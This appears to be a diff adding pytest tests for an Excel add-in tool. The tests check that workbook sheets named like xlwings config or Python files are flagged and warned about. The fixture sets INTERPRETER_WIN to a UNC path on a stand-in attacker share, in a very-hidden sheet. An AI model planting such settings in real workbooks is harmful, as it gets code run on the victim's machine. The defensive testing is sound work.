@@ -1,0 +1,53 @@
+"""Issue 19: sheets that would steer xlwings (``*.conf`` settings, ``*.py`` code) are
+reported by every reader and removed by every command that writes a workbook."""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+
+import pytest
+from click.testing import CliRunner
+from openpyxl import load_workbook
+
+from xl_addin.cli import cli
+from xl_addin.engines.file import FileBook
+from xl_addin.safety import steering_sheets
+
+STEERING = ["xlwings.conf", "XL_ADDIN.CONF", "main.py"]
+
+
+@pytest.mark.parametrize("names, found", [
+    (["汇总", "xlwings.conf", "车辆保险费", "tool.py ", "配置.config", "py", "conf"],
+     ["xlwings.conf", "tool.py "]),
+    (["Settings.CONF", "a.Py"], ["Settings.CONF", "a.Py"]),
+    (["参数", "项目模板"], []),
+])
+def test_which_sheets_steer(names, found) -> None:
+    assert steering_sheets(names) == found
+
+
+@pytest.fixture
+def crafted(seed_book_path: Path, tmp_path: Path) -> Path:
+    """The seed with the sheets a crafted workbook would carry, one very hidden."""
+    book = FileBook(seed_book_path)
+    for i, name in enumerate(STEERING):
+        ws = book.wb.create_sheet(name)
+        ws["A1"], ws["B1"] = "INTERPRETER_WIN", r"\\attacker\share\calc.exe"
+        ws.sheet_state = "veryHidden" if i == 0 else "visible"
+    return book.save(tmp_path / "crafted.xlsx", backup=False)
+
+
+def test_validate_reports_each_steering_sheet(crafted: Path) -> None:
+    result = CliRunner().invoke(cli, ["validate", str(crafted), "--json"])
+    findings = json.loads(result.stdout)["findings"]
+    steering = [(f["sheet"], f["severity"], f["code"]) for f in findings
+                if f["type"] == "steering-sheet"]
+    assert steering == [(name, "warning", "S101") for name in STEERING]
+    assert load_workbook(crafted).sheetnames[-3:] == STEERING  # reading changes nothing
+
+
+def test_dump_warns_but_does_not_fail_on_a_steering_sheet(crafted: Path) -> None:
+    result = CliRunner().invoke(cli, ["dump", str(crafted)])
+    assert result.exit_code == 0, result.output
+    assert "xlwings.conf" in result.stderr
